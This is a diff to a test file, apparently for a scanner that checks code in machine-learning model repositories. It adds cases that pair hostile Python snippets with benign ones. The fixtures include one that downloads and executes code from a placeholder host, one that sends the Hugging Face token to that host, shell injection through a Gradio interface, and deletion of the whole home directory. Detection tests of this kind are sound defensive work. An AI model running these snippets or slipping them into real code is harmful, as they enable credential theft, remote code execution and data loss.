@@ -148,6 +148,11 @@ describe('code that loading a model runs', () => {
 describe('what honest programs do is told and does not block', () => {
   it.each([
     ['packages installed', 'import os\nos.system("pip install -q flash-attn==2.5.6")', 'app.py'],
+    [
+      'packages installed by this interpreter',
+      'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "gradio==4.44.0"])',
+      'app.py',
+    ],
     ['a list of labels', 'import requests\nrequests.get("https://example.org/labels.txt").text', 'app.py'],
     ['a version that is read', 'exec(open("quiet/version.py").read())', 'setup.py'],
     ['what the machine has', 'import subprocess\nsubprocess.run(["nvidia-smi"])', 'modeling_x.py'],
@@ -354,6 +359,8 @@ describe('what reaches a call blocks by who calls it and by where its arguments 
     ['what is typed into an interface', 'app.py', 'import gradio as gr, subprocess\ndef run(command):\n    return subprocess.check_output(command, shell=True)\ngr.Interface(run, "text", "text").launch()\n', 'import gradio as gr, subprocess\ndef run(path):\n    return subprocess.check_output(["ffmpeg", "-i", path])\ngr.Interface(run, "text", "text").launch()\n'],
     ['the token of the hub', 'modeling_x.py', 'import requests\nfrom huggingface_hub import get_token\nclass X:\n    def from_pretrained(self):\n        requests.get("https://x.invalid/a", headers={"X": get_token()})\n', 'import requests\nfrom huggingface_hub import get_token\nclass X:\n    def from_pretrained(self):\n        requests.get("https://huggingface.co/api", headers={"X": get_token()})\n'],
     ['an upload', 'modeling_x.py', 'from huggingface_hub import HfApi\nHfApi().upload_file(path_or_fileobj="a", path_in_repo="a", repo_id="x/y")\n', 'from huggingface_hub import HfApi\nHfApi().model_info("x/y")\n'],
+    ['a package that nobody knows, by this interpreter', 'modeling_x.py', 'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "orca-kernels"])\n', 'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "flash-attn"])\n'],
+    ['a program in words for this interpreter', 'train.py', 'import subprocess, sys\nsubprocess.run([sys.executable, "-c", "import urllib.request as u; exec(u.urlopen(\\"https://x.invalid/a\\").read())"])\n', 'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "torch.utils.collect_env"])\n'],
     ['a package that nobody knows', 'modeling_x.py', 'import os\nos.system("pip install orca-kernels")\n', 'import os\nos.system("pip install flash-attn")\n'],
     ['machine code in a directory for everybody', 'modeling_x.py', 'import ctypes, tempfile\nctypes.CDLL(tempfile.mkdtemp() + "/a.so")\n', 'import ctypes\nctypes.CDLL("liba.so")\n'],
     ['all that lies in a home', 'handler.py', 'from pathlib import Path\nclass E:\n    def __init__(self, path):\n        for p in Path.home().rglob("*"):\n            p.unlink()\n', 'from pathlib import Path\nclass E:\n    def __init__(self, path):\n        for p in Path(path).rglob("*"):\n            p.stat()\n'],
